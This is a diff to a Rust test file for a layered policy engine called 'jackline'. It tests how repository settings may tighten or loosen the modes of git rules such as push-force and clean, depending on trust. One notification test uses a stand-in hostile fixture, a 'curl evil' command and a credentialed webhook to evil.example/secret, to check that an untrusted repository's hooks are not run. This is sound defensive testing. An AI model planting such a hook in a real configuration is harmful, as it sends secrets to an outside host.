@@ -10,15 +10,20 @@ use jackline_engine::{Definition, Kind, Mode};
 use super::*;
 
 pub(super) fn user(definition: Definition) -> Layered {
-    Layered { layer: Layer::User, file: "user.yaml".to_owned(), definition }
+    Layered { layer: Layer::User, file: "user.yaml".to_owned(), definition, modes: vec![] }
 }
 
 pub(super) fn managed(definition: Definition) -> Layered {
-    Layered { layer: Layer::Managed, file: "managed.yaml".to_owned(), definition }
+    Layered { layer: Layer::Managed, file: "managed.yaml".to_owned(), definition, modes: vec![] }
 }
 
 pub(super) fn repository(definition: Definition) -> Layered {
-    Layered { layer: Layer::Repository, file: "jackline.yaml".to_owned(), definition }
+    Layered {
+        layer: Layer::Repository,
+        file: "jackline.yaml".to_owned(),
+        definition,
+        modes: vec![],
+    }
 }
 
 fn untrusted(high: &Definition, low: &Definition) -> Combined {
@@ -48,7 +53,8 @@ pub(super) fn rule(name: &str, effect: Effect) -> Rule {
 }
 
 fn rules(mode: Mode, list: &[Rule]) -> Definition {
-    Definition { mode, rules: Rules::new(list.to_vec()), ..Definition::default() }
+    let list = list.iter().map(|rule| Rule { mode, ..rule.clone() }).collect();
+    Definition { mode, rules: Rules::new(list), ..Definition::default() }
 }
 
 fn tools(list: &[Tool]) -> Definition {
@@ -244,11 +250,15 @@ fn a_rule_keeps_the_mode_of_its_layer() {
     }
 }
 
-/// A rule holds only where the whole definition does.
 #[test]
 fn a_repository_that_observes_does_not_silence_a_rule() {
     let high = rules(Mode::Enforce, &[rule("a", Effect::Deny)]);
     let low = of_file("mode: observe\nlimits: { steps: 9 }");
+    // The rule holds by its own mode, and the limit is only the repository's.
+    let combined = untrusted(&high, &low);
+    assert_eq!((combined.definition.mode, ignored(&combined)), (Mode::Observe, vec![]));
+    assert_eq!(combined.definition.rules, high.rules);
+    let high = Definition { feedback: of_file(GUIDANCE).feedback, ..high };
     let combined = untrusted(&high, &low);
     assert_eq!(combined.definition.mode, Mode::Enforce);
     assert_eq!(
@@ -256,6 +266,94 @@ fn a_repository_that_observes_does_not_silence_a_rule() {
         ["`mode: observe` ignored: the user layer enforces; trust would let it"]
     );
     assert_eq!(trusted(&high, &low).definition.mode, Mode::Observe);
+}
+
+const GUIDANCE: &str = "feedback: [ { static: Look., every_n_calls: 3 } ]";
+
+/// A repository that extends the same pack, or nothing, and names modes.
+fn naming(source: &str) -> Layered {
+    let loaded = crate::load_from(source.as_bytes(), std::path::Path::new("f"), None).unwrap();
+    Layered { modes: loaded.modes, ..repository(loaded.definition) }
+}
+
+/// The modes of two rules of the pack that the person extends.
+fn two_modes(person: &str, low: &str, trusted: bool) -> (Vec<Mode>, Vec<String>) {
+    let combined = combine(vec![user(of_file(person)), naming(low)], trusted);
+    let mode = |name: &str| combined.definition.rules.iter().find(|r| r.name == name).unwrap().mode;
+    (vec![mode("git/push-force"), mode("git/clean")], ignored(&combined))
+}
+
+#[test]
+fn a_lower_layer_enforces_what_a_higher_one_observes() {
+    use Mode::{Enforce, Observe};
+    let person = "mode: observe\nextends: pack/git";
+    for low in
+        ["modes: { git/push-force: enforce }", "modes: { pack/git: enforce, git/clean: observe }"]
+    {
+        assert_eq!(two_modes(person, low, false), (vec![Enforce, Observe], vec![]), "{low}");
+        assert_eq!(two_modes(person, low, true).0, [Enforce, Observe], "{low}");
+    }
+    let combined =
+        combine(vec![user(of_file(person)), naming("modes: { pack/git: enforce }")], false);
+    let line = combined.decisions.iter().find(|line| line.text.starts_with("`modes")).unwrap();
+    assert_eq!((line.text.as_str(), line.layer), ("`modes: pack/git: enforce`", Layer::Repository));
+}
+
+#[test]
+fn a_lower_layer_observes_what_a_higher_one_enforces_only_where_trusted() {
+    use Mode::{Enforce, Observe};
+    let person = "extends: pack/git";
+    let says = |name: &str| {
+        format!("`modes: {name}: observe` ignored: the user layer enforces it; trust would let it")
+    };
+    let named = "modes: { git/clean: observe }";
+    let extended = "extends: pack/git\nmodes: { git/clean: observe }";
+    for low in [named, extended] {
+        assert_eq!(
+            two_modes(person, low, false),
+            (vec![Enforce, Enforce], vec![says("git/clean")])
+        );
+        let loosened = "`git/clean` enforced ignored: the repository layer says otherwise, and its file is trusted";
+        assert_eq!(
+            two_modes(person, low, true),
+            (vec![Enforce, Observe], vec![loosened.to_owned()])
+        );
+    }
+    let pack = "modes: { pack/git: observe, git/push-force: enforce }";
+    assert_eq!(two_modes(person, pack, false), (vec![Enforce, Enforce], vec![says("pack/git")]));
+    assert_eq!(two_modes(person, pack, true).0, [Enforce, Observe]);
+    // The owner of a machine is not outvoted by trust.
+    let layers = vec![managed(of_file(person)), naming(named)];
+    let combined = combine(layers, true);
+    assert!(combined.definition.rules.iter().all(|rule| rule.mode == Enforce));
+    assert_eq!(
+        ignored(&combined),
+        ["`modes: git/clean: observe` ignored: the managed layer enforces it"]
+    );
+}
+
+#[test]
+fn everybody_is_told_and_an_untrusted_repository_runs_nothing() {
+    let high = of_file("notify: { command: beep, on: [ask] }");
+    let low = of_file("notify: { command: curl evil, webhook: 'https://a:b@evil.example/secret' }");
+    let trusts = |combined: &Combined| {
+        combined.definition.notify.iter().map(|told| told.trusted).collect::<Vec<_>>()
+    };
+    let told = |combined: &Combined| -> Vec<String> {
+        let lines = combined.decisions.iter().filter(|line| line.subject == Subject::Notify);
+        lines.map(|line| line.text.clone()).collect()
+    };
+    let (combined, with_trust) = (untrusted(&high, &low), trusted(&high, &low));
+    assert_eq!((trusts(&combined), trusts(&with_trust)), (vec![true, false], vec![true, true]));
+    assert_eq!(
+        told(&combined),
+        [
+            "tells a person by `beep` of ask",
+            "tells a person by `curl evil` and by https://evil.example of ask, pause, stop, done, guard_broken (not run until trusted)"
+        ]
+    );
+    // What a person has themselves needs no trust.
+    assert_eq!(trusts(&untrusted(&high, &high)), [true]);
 }
 
 #[test]
@@ -509,7 +607,7 @@ fn each_demand_says_whose_it_is() {
         shown,
         [
             "setting | name: acme/coder | jackline.yaml -",
-            "setting | mode: enforce | user.yaml -",
+            "setting | mode: enforce | jackline.yaml -",
             "setting | completion_cap: blocked at most 5 times a turn, 3 times alike | jackline.yaml -",
             "limit | at most 3 steps a session | jackline.yaml -",
             "protected | `keys/` | user.yaml -",
